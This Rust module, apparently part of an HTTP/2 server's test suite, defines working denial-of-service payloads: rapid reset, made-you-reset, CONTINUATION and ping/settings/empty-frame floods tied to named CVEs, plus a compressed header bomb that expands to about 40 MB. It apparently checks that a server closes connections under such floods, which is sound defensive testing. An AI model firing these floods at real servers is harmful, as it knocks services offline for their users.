//! What hostile clients send: each attack is a few bytes to begin with and then one thing again
//! and again. The known ones by name: rapid reset (CVE-2023-44487), made-you-reset
//! (CVE-2025-8671), CONTINUATION flood (CVE-2024-27316), ping, settings and empty-frame floods
//! (CVE-2019-9512, -9515, -9518).

use crate::wire::{
    ACK, CONTINUATION, DATA, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, Io, PING, PRIORITY,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, Wire, call, frame, headers,
};

/// More than any limit lets through, and enough to be felt.
const TIMES: usize = 200_000;
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
const WINDOW_MAX: u32 = (1 << 31) - 1;
const UNKNOWN: u8 = 0x42;

/// One attack that a server must end by ending the connection.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    begin: fn(&str) -> Vec<u8>,
    again: fn(&str, u32) -> Vec<u8>,
}

/// All of them.
pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "rapid reset",
        begin: nothing,
        again: |path, number| {
            let stream = 2 * number + 1;
            [
                call(stream, END_STREAM, path, &[]),
                frame(RST_STREAM, 0, stream, &CANCEL),
            ]
            .concat()
        },
    },
    Attack {
        name: "made you reset",
        begin: nothing,
        again: |path, number| {
            let stream = 2 * number + 1;
            let overflow = frame(WINDOW_UPDATE, 0, stream, &WINDOW_MAX.to_be_bytes());
            [call(stream, 0, path, &[]), overflow].concat()
        },
    },
    Attack {
        name: "pings",
        begin: nothing,
        again: |_, _| frame(PING, 0, 0, &[0; 8]),
    },
    Attack {
        name: "answers to pings",
        begin: nothing,
        again: |_, _| frame(PING, ACK, 0, &[0; 8]),
    },
    Attack {
        name: "settings",
        begin: nothing,
        again: |_, number| {
            let window = [
                &INITIAL_WINDOW_SIZE.to_be_bytes()[..],
                &number.to_be_bytes(),
            ];
            frame(SETTINGS, 0, 0, &window.concat())
        },
    },
    Attack {
        name: "priorities",
        begin: nothing,
        again: |_, number| frame(PRIORITY, 0, 2 * number + 1, &[0, 0, 0, 0, 1]),
    },
    Attack {
        name: "window updates",
        begin: nothing,
        again: |_, _| frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
    },
    Attack {
        name: "unknown frames",
        begin: nothing,
        again: |_, _| frame(UNKNOWN, 0, 0, &[]),
    },
    Attack {
        name: "empty data",
        begin: |path| call(1, 0, path, &[]),
        again: |_, _| frame(DATA, 0, 1, &[]),
    },
    Attack {
        name: "one byte of data",
        begin: |path| call(1, 0, path, &[]),
        again: |_, _| frame(DATA, 0, 1, &[0]),
    },
    Attack {
        name: "continuation",
        begin: |path| frame(HEADERS, 0, 1, &headers(path, &[])),
        again: |_, _| frame(CONTINUATION, 0, 1, &field("x-more", "and more")),
    },
    Attack {
        name: "empty continuation",
        begin: |path| frame(HEADERS, 0, 1, &headers(path, &[])),
        again: |_, _| frame(CONTINUATION, 0, 1, &[]),
    },
];

impl Attack {
    /// Attacks the service at `path` until the server takes no more. Answers how often it could.
    pub(crate) async fn run<S: Io>(&self, wire: &mut Wire<S>, path: &str) -> usize {
        if wire.send(&(self.begin)(path)).await.is_err() {
            return 0;
        }
        let again = |number: usize| (self.again)(path, u32::try_from(number).unwrap());
        wire.flood(TIMES, again).await
    }
}

/// A header block that says little and means 40 MB: one long field, kept, and 10,000 times "again".
pub(crate) fn header_bomb(path: &str) -> Vec<u8> {
    const KEPT: u8 = 0x40;
    const AGAIN: u8 = 0x80 | 62;
    let mut block = headers(path, &[]);
    let mut long = field("x-long", &"a".repeat(3_900));
    long[0] = KEPT;
    block.extend(long);
    block.extend([AGAIN; 10_000]);
    block
}

fn nothing(_: &str) -> Vec<u8> {
    Vec::new()
}

/// One header field as its bytes in a block.
fn field(name: &str, value: &str) -> Vec<u8> {
    let whole = headers("/", &[(name, value)]);
    whole[headers("/", &[]).len()..].to_vec()
}
